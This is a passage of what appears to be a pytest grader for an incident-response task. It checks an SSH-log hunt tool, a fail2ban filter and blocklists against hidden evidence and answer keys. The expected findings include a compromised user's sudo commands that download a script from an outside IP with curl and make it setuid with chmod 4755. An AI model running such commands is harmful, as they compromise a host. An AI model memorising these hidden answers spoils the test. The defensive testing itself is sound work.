U3aY5VPWXp3Wi5ve+7bLC9N0WP5dVYsndADFC5jYCCkZZWVenfjoJt2eu9sUGbIsCi+ZnnyUoJ8wltlSEWIqsqQ6yEbCw6bvCJbjr+cNNpmpybScAB2fWlosEZaBC8TICvlryaJ1tingRSk5pqvLwUr3REs+kHVwkPRsJHurdUdhN3pxN+SNChBgrZ+YxzZrTYSBARCyQBQ1s4GVQe57XYS2mivHXYSCIw7COQkvYwTuoPZmkx0FRZ0rRFOZhcaaZORdqkNgVpokkJzL0U0ofqZHkKlg8cOAn/WQajefKV/8Fe2yufhLF7O2P6qlE23TPCTfYTnQlgL3WtF7SZZre8iOGYLHWFu1kUgl/E8rh4prqn9Xi0d2xHmRl7VABp96pa4aLtXS2ZDHWFu6FVyk2CPhIY64FVSrqbtBnMzryJoRT6jEbS+O18yE+8IczOvGgTiUqKw1keJgIit7Mq7Al1BAFLWbbbQ1Wlpt6zzUpetwnioMR8hqyrTTQnX7bE5UCG4USTR6+KD4yXPvbb/R3augg4jb1okV8a4L470ZrHNakHW5zzExxaULcdzq6UUHWFuFs+tfVhQ9pOxJG+/V63xqeStMjfyqgH+sDXCT32Pra9+S2a/PQ1sWfVrkKwVmpMB4zUDaS5897Kz2dWzJQ8AEzjn3GddDvRyO1snFIPgkUFONrE2MiFXlCSoYy0QQyulSZU1HGU37bVpxi4NeZ+wYbMBoUFyq7T2vEEEtf+lj2dykU4uSAHQwwqZsGYHcmmjvXYqFy2Ni6JceVn8cdhyqzIBJxMOgaB6h4Bxc7WdqKQ9ZtqlOrQGVMC1FH6wcbtBRLu0w9GlnnpPhSuzQO1CHi2y0y7lYYhcVV3uOvMbO1U7t2EFYFwE4naj9lArrfR6m+gRtt6KZbhZr2ditOUCXEJFRD+jweittod+RAXgooOoO2wLOSmT3+Vzia0vNa1wAbIjzM1KTetiitfGF29/A8Exa94R5v/w6r+e0xG+UzsAAA==',
            'timedatectl.txt': 'H4sIAAAAAAACA12MwQqDMBAF7/mKd2wPYgz04rX0JqXQ+AGyLjQ0ZsEsQvx6c9U5zwxwYhCaIjQs3ONGEiOT8gxn3aOxXWPd3eCCrzJ2SbV4KbWjf5pvycoLKAr9kUui3yop7Dz3KJwvh7f/IPO6BaqHiTRsbA7LcHRGlgAAAA=='},
  'host': 'vpn-gw-3',
  'truth': {'filter': [['Dec 30 13:56:52 vpn-gw-3 sshd[3518]: Accepted publickey for ingrid from 10.55.59.58 port '
                        '31348 ssh2: ED25519 SHA256:1c250f348e38bb93a2d94cf0680f6bfcea6bcdc54d3',
                        None],
                       ['Dec 30 14:16:01 vpn-gw-3 sshd[3551]: Accepted password for tova from 10.28.34.45 port 37385 '
                        'ssh2',
                        None],
                       ['Dec 30 16:47:53 vpn-gw-3 sshd[3668]: Accepted password for ingrid from 10.2.69.191 port 31271 '
                        'ssh2',
                        None],
                       ['Dec 30 17:17:00 vpn-gw-3 sudo[3757]: pam_unix(sudo:session): session opened for user '
                        'root(uid=0) by kira(uid=1005)',
                        None],
                       ['Dec 31 08:48:17 vpn-gw-3 sshd[3981]: Accepted publickey for kira from 10.30.129.239 port '
                        '63868 ssh2: ED25519 SHA256:8f7841215efe37d7b687895c661d532ce932dba65dc',
                        None],
                       ['Dec 31 09:36:17 vpn-gw-3 sshd[4010]: Failed password for kira from 10.30.129.239 port 34228 '
                        'ssh2',
                        '10.30.129.239'],
                       ['Dec 31 09:36:58 vpn-gw-3 sshd[4047]: Failed password for kira from 10.30.129.239 port 51140 '
                        'ssh2',
                        '10.30.129.239'],
                       ['Dec 31 09:36:58 vpn-gw-3 sshd[4047]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=10.30.129.239  user=kira',
                        None],
                       ['Dec 31 09:37:52 vpn-gw-3 sshd[4082]: Failed password for kira from 10.30.129.239 port 33327 '
                        'ssh2',
                        '10.30.129.239'],
                       ['Dec 31 09:37:52 vpn-gw-3 sshd[4082]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=10.30.129.239  user=kira',
                        None],
                       ['Dec 31 09:38:00 vpn-gw-3 sshd[4102]: Failed password for kira from 10.30.129.239 port 32907 '
                        'ssh2',
                        '10.30.129.239'],
                       ['Dec 31 09:38:00 vpn-gw-3 sshd[4102]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=10.30.129.239  user=kira',
                        None],
                       ['Dec 31 09:38:05 vpn-gw-3 sshd[4109]: Failed password for kira from 10.30.129.239 port 55527 '
                        'ssh2',
                        '10.30.129.239'],
                       ['Dec 31 09:40:43 vpn-gw-3 sshd[4138]: Failed password for kira from 10.30.129.239 port 33660 '
                        'ssh2',
                        '10.30.129.239'],
                       ['Dec 31 09:40:43 vpn-gw-3 sshd[4138]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=10.30.129.239  user=kira',
                        None],
                       ['Dec 31 12:41:51 vpn-gw-3 sshd[4149]: Failed password for chidi from 218.224.45.254 port 59274 '
                        'ssh2',
                        '218.224.45.254'],
                       ['Dec 31 12:41:51 vpn-gw-3 sshd[4149]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=218.224.45.254  user=chidi',
                        None],
                       ['Dec 31 12:45:15 vpn-gw-3 sshd[4159]: Failed password for root from 218.224.45.254 port 37092 '
                        'ssh2',
                        '218.224.45.254'],
                       ['Dec 31 12:45:15 vpn-gw-3 sshd[4159]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=218.224.45.254  user=root',
                        None],
                       ['Dec 31 12:45:30 vpn-gw-3 sshd[4191]: Failed password for chidi from 218.224.45.254 port 57442 '
                        'ssh2',
                        '218.224.45.254'],
                       ['Dec 31 12:45:30 vpn-gw-3 sshd[4191]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=218.224.45.254  user=chidi',
                        None],
                       ['Dec 31 12:45:37 vpn-gw-3 sshd[4200]: Failed password for root from 218.224.45.254 port 51949 '
                        'ssh2',
                        '218.224.45.254'],
                       ['Dec 31 12:45:50 vpn-gw-3 sshd[4214]: Failed password for chidi from 218.224.45.254 port 36049 '
                        'ssh2',
                        '218.224.45.254'],
                       ['Dec 31 12:50:09 vpn-gw-3 sshd[4249]: Failed password for root from 218.224.45.254 port 57065 '
                        'ssh2',
                        '218.224.45.254'],
                       ['Dec 31 12:50:09 vpn-gw-3 sshd[4249]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=218.224.45.254  user=root',
                        None],
                       ['Dec 31 12:50:12 vpn-gw-3 sshd[4257]: Failed password for chidi from 218.224.45.254 port 47382 '
                        'ssh2',
                        '218.224.45.254'],
                       ['Dec 31 12:55:57 vpn-gw-3 sudo[4272]:    chidi : TTY=pts/3 ; PWD=/home/chidi ; USER=root ; '
                        'COMMAND=/usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/.x',
                        None],
                       ['Dec 31 12:57:30 vpn-gw-3 sudo[4277]: pam_unix(sudo:session): session opened for user '
                        'root(uid=0) by chidi(uid=1002)',
                        None],
                       ['Dec 31 13:02:25 vpn-gw-3 sudo[4292]: pam_unix(sudo:session): session opened for user '
                        'root(uid=0) by chidi(uid=1002)',
                        None],
                       ['Dec 31 16:15:32 vpn-gw-3 sshd[4426]: Accepted publickey for olga from 10.17.168.253 port '
                        '33340 ssh2: ED25519 SHA256:6d9c120b74098d88b7a059dd46c6244a8337e587043',
                        None],
                       ['Dec 31 20:22:50 vpn-gw-3 sshd[4489]: Accepted password for alice from 10.58.17.113 port 57255 '
                        'ssh2',
                        None],
                       ['Jan  1 02:10:49 vpn-gw-3 sshd[4491]: Failed password for invalid user support from '
                        '218.222.38.228 port 38264 ssh2',
                        '218.222.38.228'],
                       ['Jan  1 02:10:49 vpn-gw-3 sshd[4491]: Invalid user support from 218.222.38.228 port 38264',
                        None],
                       ['Jan  1 02:13:21 vpn-gw-3 sshd[4527]: Failed password for invalid user ftpuser from '
                        '218.222.38.228 port 51091 ssh2',
                        '218.222.38.228'],
                       ['Jan  1 02:14:51 vpn-gw-3 sshd[4530]: Failed password for invalid user admin from '
                        '218.222.38.228 port 30742 ssh2',
                        '218.222.38.228'],
                       ['Jan  1 02:14:51 vpn-gw-3 sshd[4530]: Invalid user admin from 218.222.38.228 port 30742', None],
                       ['Jan  1 02:14:51 vpn-gw-3 sshd[4530]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=218.222.38.228',
                        None],
                       ['Jan  1 02:16:20 vpn-gw-3 sshd[4553]: Failed password for chidi from 218.222.38.228 port 45102 '
                        'ssh2',
                        '218.222.38.228'],
                       ['Jan  1 02:19:12 vpn-gw-3 sshd[4572]: Failed password for root from 218.222.38.228 port 64804 '
                        'ssh2',
                        '218.222.38.228'],
                       ['Jan  1 13:44:29 vpn-gw-3 sshd[4587]: pam_unix(sshd:session): session opened for user '
                        'ingrid(uid=1003) by (uid=0)',
                        None],
                       ['Jan  2 03:50:23 vpn-gw-3 sshd[4679]: Failed password for invalid user admin from '
                        '111.10.18.105 port 62461 ssh2',
                        '111.10.18.105'],
                       ['Jan  2 03:50:23 vpn-gw-3 sshd[4679]: pam_unix(sshd:auth): check pass; user unknown', None],
                       ['Jan  2 03:50:41 vpn-gw-3 sshd[4699]: Failed password for invalid user user from 111.10.18.105 '
                        'port 58238 ssh2',
                        '111.10.18.105'],
                       ['Jan  2 03:50:41 vpn-gw-3 sshd[4699]: Invalid user user from 111.10.18.105 port 58238', None],
                       ['Jan  2 03:50:41 vpn-gw-3 sshd[4699]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=111.10.18.105',
                        None],
                       ['Jan  2 03:50:41 vpn-gw-3 sshd[4699]: pam_unix(sshd:auth): check pass; user unknown', None],
                       ['Jan  2 03:52:59 vpn-gw-3 sshd[4703]: Failed password for invalid user ftpuser from '
                        '111.10.18.105 port 35643 ssh2',
                        '111.10.18.105'],
                       ['Jan  2 03:52:59 vpn-gw-3 sshd[4703]: Invalid user ftpuser from 111.10.18.105 port 35643',
                        None],
                       ['Jan  2 03:52:59 vpn-gw-3 sshd[4703]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=111.10.18.105',
                        None],
                       ['Jan  2 03:54:22 vpn-gw-3 sshd[4722]: Failed password for invalid user admin from '
                        '111.10.18.105 port 54724 ssh2',
                        '111.10.18.105'],
                       ['Jan  2 03:54:22 vpn-gw-3 sshd[4722]: Invalid user admin from 111.10.18.105 port 54724', None],
                       ['Jan  2 03:55:31 vpn-gw-3 sshd[4728]: Failed password for invalid user user from 111.10.18.105 '
                        'port 37424 ssh2',
                        '111.10.18.105'],
                       ['Jan  2 03:55:31 vpn-gw-3 sshd[4728]: pam_unix(sshd:auth): check pass; user unknown', None],
                       ['Jan  2 03:57:38 vpn-gw-3 sshd[4753]: Failed password for invalid user ftpuser from '
                        '111.10.18.105 port 45462 ssh2',
                        '111.10.18.105'],
                       ['Jan  2 03:57:38 vpn-gw-3 sshd[4753]: Invalid user ftpuser from 111.10.18.105 port 45462',
                        None],
                       ['Jan  2 03:57:38 vpn-gw-3 sshd[4753]: pam_unix(sshd:auth): authentication failure; logname= '
                        'uid=0 euid=0 tty=ssh ruser= rhost=111.10.18.105',
                        None]],
            'findings': {'compromised': [{'ip': '218.224.45.254', 'time': '2024-12-31T12:52:59Z', 'user': 'chidi'}],
                         'spraying': [{'accounts': 5, 'first_seen': '2025-01-01T02:10:49Z', 'ip': '218.222.38.228'}],
                         'sudo_after_compromise': [{'command': '/usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/.x',
                                                    'time': '2024-12-31T12:55:57Z',
                                                    'user': 'chidi'},
                                                   {'command': '/usr/bin/id',
                                                    'time': '2024-12-31T12:57:30Z',
                                                    'user': 'chidi'},
                                                   {'command': '/usr/bin/chmod 4755 /tmp/.x',
                                                    'time': '2024-12-31T13:02:25Z',
                                                    'user': 'chidi'},
                                                   {'command': '/usr/bin/apt update',
                                                    'time': '2024-12-31T14:37:56Z',
                                                    'user': 'chidi'}]}}}]
PROG = '/srv/ir/hunt'
FILTER = '/srv/ir/filter.d/ir-auth.conf'

def _blocklist(path, fmt):
    pat = {"hosts_deny": r"^sshd\s*:\s*(\[[0-9a-fA-F:]+\]|[0-9.]+)\s*$",
           "ipset": r"^add\s+(ir-block4|ir-block6)\s+(\S+)(?:\s+-exist)?\s*$",
           "nft": r"^add\s+element\s+inet\s+filter\s+(ir_block4|ir_block6)\s*\{\s*([^}]*?)\s*\}\s*;?\s*$"}[fmt]
    got, bad = [], []
    with open(path) as f:
        for line in f:
            s = line.strip()
            if not s or s.startswith("#") or (fmt == "ipset" and s.startswith("create ")):
                continue
            m = re.match(pat, s)
            if not m:
                bad.append(s)
                continue
            if fmt == "hosts_deny":
                a = m.group(1)
                v6 = a.startswith("[")
                items = [(a.strip("[]"), v6)]
            else:
                v6 = m.group(1).endswith("6")
                items = [(x.strip(), v6) for x in m.group(2).split(",") if x.strip()]
            for a, v6 in items:
                try:
                    ok = ipaddress.ip_address(a).version == (6 if v6 else 4)
                except ValueError:
                    ok = False
                (got if ok else bad).append(a)
    return got, bad


def problems(out, truth, fmt):
    """What is wrong in the outputs under `out` against `truth` (an empty list: all right)."""
    p = os.path.join(out, "findings.json")
    if not os.path.isfile(p):
        return ["findings.json is missing"]
    try:
        with open(p) as f:
            got = json.load(f)
    except (ValueError, UnicodeDecodeError) as e:
        return [f"findings.json does not parse: {e}"]
    if not isinstance(got, dict):
        return ["findings.json is not an object"]
    msgs = []
    for key, want in sorted(truth["findings"].items()):
        have = got.get(key)
        if not isinstance(have, list) or not all(isinstance(x, dict) for x in have):
            msgs.append(f"findings.json: {key} is not a list of objects")
            continue
        fields = sorted(want[0])
        norm = [{k: x.get(k) for k in fields} for x in have]
        if norm != want:
            miss = [w for w in want if w not in norm][:3]
            extra = [x for x in norm if x not in want][:3]
            msgs.append(f"findings.json: {key} differs (missing {miss}, unexpected {extra}"
                        + (", or out of order)" if not miss and not extra else ")"))
    if "blocklist" in truth:
        p = os.path.join(out, BLOCKFILE)
        if not os.path.isfile(p):
            msgs.append(f"{BLOCKFILE} is missing")
        else:
            have, bad = _blocklist(p, fmt)
            if bad:
                msgs.append(f"{BLOCKFILE}: lines or addresses not in the stated format: {bad[:3]}")
            if sorted(set(have)) != sorted(truth["blocklist"]) or len(have) != len(set(have)):
                msgs.append(f"{BLOCKFILE}: missing {sorted(set(truth['blocklist']) - set(have))[:4]}, "
                            f"unexpected {sorted(set(have) - set(truth['blocklist']))[:4]}, repeated: {len(have) != len(set(have))}")
    if "timeline" in truth:
        p = os.path.join(out, "timeline.csv")
        if not os.path.isfile(p):
            msgs.append("timeline.csv is missing")
        else:
            with open(p, newline="") as f:
                rows = [r for r in csv.reader(f) if r]
            want = [["time", "source", "ip", "user", "event"]] + [list(r) for r in truth["timeline"]]
            if rows != want:
                n = next((i for i, (a, b) in enumerate(zip(rows, want)) if a != b), min(len(rows), len(want)))
                msgs.append(f"timeline.csv: {len(rows) - 1} rows for {len(want) - 1}; first difference at row {n}: "
                            f"{rows[n] if n < len(rows) else None} for {want[n] if n < len(want) else None}")
    return msgs


HOSTRX = r"(?P<host>[0-9A-Fa-f.:]*[0-9A-Fa-f])"


def filter_problems(path, cases):
    """How a fail2ban filter judges held-out lines: a failregex matches (<HOST>: the address), no ignoreregex does."""
    if not os.path.isfile(path):
        return [f"{path} is missing"]
    cp = configparser.ConfigParser(interpolation=None, strict=False)
    try:
        cp.read(path)
        fail = cp.get("Definition", "failregex")
        ign = cp.get("Definition", "ignoreregex", fallback="")
    except (configparser.Error, UnicodeDecodeError) as e:
        return [f"{path}: not a filter with [Definition] failregex ({e})"]
    def compiled(text):
        out = []
        for l in text.splitlines():
            l = l.strip()
            if l:
                out.append(re.compile(l.replace("<HOST>", HOSTRX, 1).replace("<HOST>", "(?:[0-9A-Fa-f.:]+)")))
        return out
    try:
        fails, ignores = compiled(fail), compiled(ign)
    except re.error as e:
        return [f"{path}: a regex does not compile: {e}"]
    bad = []
    for line, want in cases:
        got = None
        if not any(i.search(line) for i in ignores):
            for f in fails:
                m = f.search(line)
                if m:
                    try:
                        a = ipaddress.ip_address(m.group("host"))
                        got = str(getattr(a, "ipv4_mapped", None) or a)
                    except (ValueError, IndexError):
                        got = "(no address)"
                    break
        if got != want:
            bad.append((line[:160], got, want))
    if bad:
        return [f"{path}: {len(bad)} of {len(cases)} held-out lines judged wrong (line, flagged, expected): {bad[:3]}"]
    return []


def test_findings_on_this_host():
    msgs = problems("/srv/ir/out", {"findings": VISIBLE["findings"]}, FMT)
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("case", range(len(HIDDEN)), ids=[h["host"] for h in HIDDEN])
def test_filter_on_held_out_lines(case):
    msgs = filter_problems(FILTER, HIDDEN[case]["truth"]["filter"])
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("case", range(len(HIDDEN)), ids=[h["host"] for h in HIDDEN])
def test_hunt_on_held_out_evidence(case):
    h = HIDDEN[case]
    src = tempfile.mkdtemp()
    ev = os.path.join(src, h["host"])
    os.makedirs(ev)
    for name, data in h["files"].items():
        with open(os.path.join(ev, name), "wb") as f:
            f.write(gzip.decompress(base64.b64decode(data)))
    assert os.path.isfile(PROG), f"{PROG} is missing"
    ev = tg_guard.give(ev)
    prog = tg_guard.give(PROG)
    os.chmod(prog, 0o755)
    out = os.path.join(tg_guard.scratch("out"), "result")
    p = tg_guard.run([prog, ev, out], timeout=120)
    assert p.returncode == 0, f"{PROG} failed on held-out evidence: {p.stderr[-800:]}"
    msgs = problems(out, h["truth"], FMT)
    assert not msgs, f"held-out host {h['host']}: " + "\n".join(msgs)
